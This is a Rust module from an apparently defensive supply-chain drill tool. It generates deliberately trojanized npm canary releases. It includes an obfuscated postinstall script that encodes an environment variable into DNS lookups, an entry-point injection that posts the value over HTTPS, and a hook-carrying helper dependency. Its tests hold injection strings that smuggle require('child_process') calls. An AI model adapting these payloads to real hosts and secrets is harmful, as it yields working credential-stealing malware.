//! The canary releases, as data: a clean 1.0.0 and, per scenario, a harmless trojanized 1.0.1.
//!
//! Sans-IO: [`generate`] returns file contents; [`PackageRelease::write_to`] puts them in a
//! directory. Every payload only touches names under the drill's `.invalid` domain (which
//! never resolves, RFC 6761), the canary value (never the real environment), and one marker
//! file whose path the drill chose. The marker is how the drill proves the canary ran only
//! inside the sandbox.

use std::path::Path;

use serde::{Deserialize, Serialize};

/// One trojanized-release scenario.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Scenario {
    /// An obfuscated postinstall: environment value → base64 → DNS names under the drill domain.
    Seed,
    /// Injected code in the entry point sends the canary over HTTPS when the package loads.
    Runtime,
    /// The payload arrives in a newly added dependency's postinstall.
    NewDependency,
    /// A new native addon whose import table gains `connect`.
    Binary,
}

impl Scenario {
    pub const ALL: [Scenario; 4] = [
        Scenario::Seed,
        Scenario::Runtime,
        Scenario::NewDependency,
        Scenario::Binary,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Scenario::Seed => "seed",
            Scenario::Runtime => "runtime",
            Scenario::NewDependency => "new-dependency",
            Scenario::Binary => "binary",
        }
    }

    pub fn parse(s: &str) -> Option<Scenario> {
        Scenario::ALL.into_iter().find(|x| x.as_str() == s)
    }

    pub fn summary(self) -> &'static str {
        match self {
            Scenario::Seed => "obfuscated postinstall: environment -> base64 -> DNS names",
            Scenario::Runtime => "entry point sends a canary variable over HTTPS on load",
            Scenario::NewDependency => "payload in a newly added dependency's postinstall",
            Scenario::Binary => "new native addon importing connect",
        }
    }
}

/// What the payloads may touch: chosen by the drill, baked into the generated code.
#[derive(Debug, Clone)]
pub struct CanarySpec {
    /// Short lowercase hex drill id, part of every package name.
    pub id: String,
    /// The drill domain; must end in `.invalid` unless the user owns another.
    pub domain: String,
    /// The canary value sent (never a real secret). The payloads read it from
    /// `TURNCOAT_DRILL_CANARY_TOKEN`, a credential-shaped name, as a thief reads `NPM_TOKEN`.
    pub value: String,
    /// The file a payload writes when it runs.
    pub marker: String,
    /// `--package NAME`: the team's own package the canaries are releases of (instead of a
    /// generated `drill-<id>-…-sanitizer` per scenario).
    pub drilled: Option<String>,
}

impl CanarySpec {
    pub fn new(id: &str, marker: &Path) -> CanarySpec {
        CanarySpec {
            id: id.to_string(),
            domain: format!("{id}.drill.invalid"),
            value: format!("turncoat-drill-canary-{id}"),
            marker: marker.display().to_string(),
            drilled: None,
        }
    }

    /// The payloads use `<id>.<domain>` instead of `<id>.drill.invalid`: a domain the user
    /// owns (so a leaked query would reach their own name server, never a stranger's).
    pub fn with_domain(mut self, domain: &str) -> Result<CanarySpec, String> {
        check_domain(domain)?;
        self.domain = format!("{}.{}", self.id, domain.to_ascii_lowercase());
        Ok(self)
    }

    /// The package a scenario updates.
    pub fn package(&self, s: Scenario) -> String {
        match &self.drilled {
            Some(name) => name.clone(),
            None => format!("drill-{}-{}-sanitizer", self.id, s.as_str()),
        }
    }

    /// A package this drill published: a generated `drill-<id>-…` one, or the drilled one.
    pub fn is_drill_package(&self, name: &str) -> bool {
        name.starts_with(&format!("drill-{}-", self.id)) || self.drilled.as_deref() == Some(name)
    }

    /// The dependency the `new-dependency` scenario adds.
    pub fn helper(&self) -> String {
        format!("drill-{}-helper", self.id)
    }
}

/// A DNS name of letters, digits and hyphens, at least two labels: it is baked into the
/// payloads, so nothing else may get in.
pub fn check_domain(domain: &str) -> Result<(), String> {
    let labels: Vec<&str> = domain.split('.').collect();
    let label_ok = |l: &&str| {
        (1..=63).contains(&l.len())
            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
            && !l.starts_with('-')
            && !l.ends_with('-')
    };
    if domain.len() > 200 || labels.len() < 2 || !labels.iter().all(label_ok) {
        return Err(format!(
            "`{}` is not a domain name (letters, digits, hyphens; two labels or more)",
            domain.escape_debug()
        ));
    }
    Ok(())
}

/// One version of one package, as files.
#[derive(Debug, Clone)]
pub struct PackageRelease {
    pub name: String,
    pub version: String,
    /// Relative path → contents.
    pub files: Vec<(String, Vec<u8>)>,
}

impl PackageRelease {
    /// Write the files under `dir` (created).
    pub fn write_to(&self, dir: &Path) -> std::io::Result<()> {
        for (rel, data) in &self.files {
            let path = dir.join(rel);
            if let Some(parent) = path.parent() {
                std::fs::create_dir_all(parent)?;
            }
            std::fs::write(path, data)?;
        }
        Ok(())
    }
}

/// The releases of one scenario, in publish order: what the project starts on, then the
/// trojanized update. `base` is the version the project locks first.
#[derive(Debug, Clone)]
pub struct Canary {
    pub scenario: Scenario,
    pub package: String,
    pub base: String,
    pub update: String,
    /// Published before the project locks `base` (1.0.0 and helpers).
    pub before: Vec<PackageRelease>,
    /// The trojanized release; its publish time starts the clock.
    pub trojan: PackageRelease,
}

const CLEAN_INDEX: &str = r#"'use strict';
// Removes control characters and trims a string.
module.exports = function sanitize(input) {
  return String(input).replace(/[\u0000-\u001f\u007f]/g, '').trim();
};
"#;

fn js(s: &str) -> String {
    serde_json::to_string(s).unwrap_or_default()
}

fn manifest(name: &str, version: &str, extra: serde_json::Value) -> Vec<u8> {
    let mut m = serde_json::json!({
        "name": name,
        "version": version,
        "description": "turncoat drill canary: harmless, touches only .invalid names",
        "main": "index.js",
        "license": "Apache-2.0",
    });
    if let (Some(m), Some(extra)) = (m.as_object_mut(), extra.as_object()) {
        for (k, v) in extra {
            m.insert(k.clone(), v.clone());
        }
    }
    serde_json::to_vec_pretty(&m).unwrap_or_default()
}

/// The seed payload: strings hidden in a base64 table, the canary value encoded into DNS
/// labels under the drill domain. Obfuscated the way the real droppers were, so the gate's
/// "newly obfuscated" and string-table rules have something to find.
fn seed_payload(spec: &CanarySpec) -> String {
    use base64::Engine as _;
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let table = [
        b64("dns"),
        b64("resolve4"),
        b64("env"),
        b64("writeFileSync"),
        b64("fs"),
        b64("base64"),
    ];
    let table = table.iter().map(|s| js(s)).collect::<Vec<_>>().join(",");
    format!(
        "'use strict';var _0x1f=[{table}];function _0x2(i){{return Buffer.from(_0x1f[i],'base64').toString();}}\
var _0xd=require(_0x2(0)),_0xf=require(_0x2(4));var _0xv=process[_0x2(2)].TURNCOAT_DRILL_CANARY_TOKEN||{value};\
try{{_0xf[_0x2(3)]({marker},{id});}}catch(_0xe){{}}\
var _0xb=Buffer.from(_0xv).toString(_0x2(5)).replace(/[^A-Za-z0-9]/g,'').toLowerCase();\
for(var _0xi=0;_0xi<_0xb.length;_0xi+=40){{try{{_0xd[_0x2(1)](_0xb.slice(_0xi,_0xi+40)+'.'+{domain},function(){{}});}}catch(_0xe){{}}}}\n",
        value = js(&spec.value),
        marker = js(&spec.marker),
        id = js(&spec.id),
        domain = js(&spec.domain),
    )
}

/// The runtime payload appended to the entry point: the canary over HTTPS on load.
fn runtime_payload(spec: &CanarySpec) -> String {
    format!(
        "\n;(function(){{try{{require('fs').writeFileSync({marker},{id});}}catch(e){{}}\
try{{var r=require('https').request({{host:'c.'+{domain},port:443,method:'POST',path:'/c'}},function(){{}});\
r.on('error',function(){{}});r.end(process.env.TURNCOAT_DRILL_CANARY_TOKEN||{value});}}catch(e){{}}}})();\n",
        marker = js(&spec.marker),
        id = js(&spec.id),
        domain = js(&spec.domain),
        value = js(&spec.value),
    )
}

fn clean(name: &str, version: &str) -> PackageRelease {
    PackageRelease {
        name: name.into(),
        version: version.into(),
        files: vec![
            (
                "package.json".into(),
                manifest(name, version, serde_json::json!({})),
            ),
            ("index.js".into(), CLEAN_INDEX.as_bytes().to_vec()),
        ],
    }
}

/// The releases for one scenario. `addon` is the native addon for [`Scenario::Binary`]
/// (see [`crate::elf`]); other scenarios ignore it.
pub fn generate(spec: &CanarySpec, scenario: Scenario, addon: &[u8]) -> Canary {
    generate_versions(spec, scenario, addon, "1.0.0", "1.0.1")
}

/// [`generate`] with the base and update versions given (`--package`: the next patch of the
/// team's package). `before` starts with a clean `base` release of the package; the caller
/// leaves it out when the registry already has that version.
pub fn generate_versions(
    spec: &CanarySpec,
    scenario: Scenario,
    addon: &[u8],
    base_version: &str,
    update_version: &str,
) -> Canary {
    let name = spec.package(scenario);
    let base = clean(&name, base_version);
    let mut before = vec![base];
    let mut trojan = clean(&name, update_version);
    match scenario {
        Scenario::Seed => {
            trojan.files[0].1 = manifest(
                &name,
                update_version,
                serde_json::json!({"scripts": {"postinstall": "node lib/setup.js"}}),
            );
            trojan
                .files
                .push(("lib/setup.js".into(), seed_payload(spec).into_bytes()));
        }
        Scenario::Runtime => {
            let mut index = CLEAN_INDEX.to_string();
            index.push_str(&runtime_payload(spec));
            trojan.files[1].1 = index.into_bytes();
        }
        Scenario::NewDependency => {
            // As with axios and plain-crypto-js: the helper gets a clean 1.0.0 for some
            // history, its 1.0.1 adds the hook, and the parent's release only adds the
            // dependency on it.
            let helper = spec.helper();
            let mut h = clean(&helper, "1.0.1");
            h.files[0].1 = manifest(
                &helper,
                "1.0.1",
                serde_json::json!({"scripts": {"postinstall": "node setup.js"}}),
            );
            h.files
                .push(("setup.js".into(), seed_payload(spec).into_bytes()));
            before.push(clean(&helper, "1.0.0"));
            before.push(h);
            trojan.files[0].1 = manifest(
                &name,
                update_version,
                serde_json::json!({"dependencies": {helper: "^1.0.1"}}),
            );
        }
        Scenario::Binary => {
            let mut index = CLEAN_INDEX.to_string();
            index.push_str(
                "\ntry { module.exports.native = require('./build/Release/addon.node'); } catch (e) {}\n",
            );
            trojan.files[1].1 = index.into_bytes();
            trojan
                .files
                .push(("build/Release/addon.node".into(), addon.to_vec()));
        }
    }
    Canary {
        scenario,
        package: name,
        base: base_version.into(),
        update: update_version.into(),
        before,
        trojan,
    }
}

/// The C source of the native addon: a function that would connect to the drill host. Built
/// with `cc` at drill time when available (see [`crate::elf`]); never called by the generated JS.
pub fn addon_c_source(spec: &CanarySpec) -> String {
    format!(
        "#include <sys/socket.h>\n#include <netinet/in.h>\n\
/* turncoat drill canary ({domain}): never called. */\n\
int drill_beacon(void) {{ struct sockaddr_in a = {{0}}; a.sin_family = AF_INET; a.sin_port = htons(443);\n\
  int s = socket(AF_INET, SOCK_STREAM, 0); return connect(s, (struct sockaddr *)&a, sizeof a); }}\n",
        domain = spec.domain.replace("*/", "")
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec() -> CanarySpec {
        CanarySpec::new("ab12cd34", Path::new("/tmp/drill/marker"))
    }

    #[test]
    fn every_scenario_changes_only_what_it_names() {
        let s = spec();
        for sc in Scenario::ALL {
            let c = generate(&s, sc, b"\x7fELF");
            assert_eq!(
                c.package,
                format!("drill-ab12cd34-{}-sanitizer", sc.as_str())
            );
            assert_eq!(c.before[0].version, "1.0.0");
            assert_eq!(c.trojan.version, "1.0.1");
            let base = String::from_utf8(c.before[0].files[0].1.clone()).unwrap();
            assert!(!base.contains("scripts"), "1.0.0 must be clean");
            assert_eq!(Scenario::parse(sc.as_str()), Some(sc));
        }
        let seed = generate(&s, Scenario::Seed, b"");
        let man = String::from_utf8(seed.trojan.files[0].1.clone()).unwrap();
        assert!(man.contains("postinstall"));
        let nd = generate(&s, Scenario::NewDependency, b"");
        assert_eq!(nd.before.len(), 3);
        assert!(String::from_utf8_lossy(&nd.trojan.files[0].1).contains("drill-ab12cd34-helper"));
        let bin = generate(&s, Scenario::Binary, b"\x7fELF");
        assert!(
            bin.trojan
                .files
                .iter()
                .any(|(p, _)| p.ends_with("addon.node"))
        );
    }

    #[test]
    fn payloads_touch_only_the_drill_domain_canary_and_marker() {
        let s = spec();
        let seed = seed_payload(&s);
        let runtime = runtime_payload(&s);
        for p in [&seed, &runtime] {
            assert!(p.contains("ab12cd34.drill.invalid"));
            assert!(p.contains("/tmp/drill/marker"));
            assert!(p.contains("turncoat-drill-canary-ab12cd34"));
            // The only environment variable read is the canary's own.
            assert_eq!(p.matches("TURNCOAT_DRILL_CANARY").count(), 1);
            assert!(!p.contains("JSON.stringify(process.env"));
        }
        // The seed hides its module names: no plain `dns` string.
        assert!(!seed.contains("'dns'") && !seed.contains("\"dns\""));
    }

    #[test]
    fn a_user_domain_is_a_plain_dns_name() {
        let s = spec().with_domain("Drill.Example.com").unwrap();
        assert_eq!(s.domain, "ab12cd34.drill.example.com");
        for bad in [
            "invalid",
            "x.invalid'+require('child_process')+'",
            "a..b",
            "-a.b",
            "a.b/c",
            "a.b c",
            &format!("{}.com", "a".repeat(64)),
        ] {
            assert!(spec().with_domain(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn hostile_spec_values_stay_inside_string_literals() {
        let mut s = spec();
        s.marker = "/tmp/x\"); require('child_process').exec('id'); (\"".into();
        let p = seed_payload(&s);
        // The value appears only as one JSON string literal, quotes escaped.
        let literal = serde_json::to_string(&s.marker).unwrap();
        assert!(p.contains(&literal));
        assert_eq!(p.matches("require('child_process')").count(), 1);
        assert!(!p.contains("/tmp/x\"); require"));
    }
}
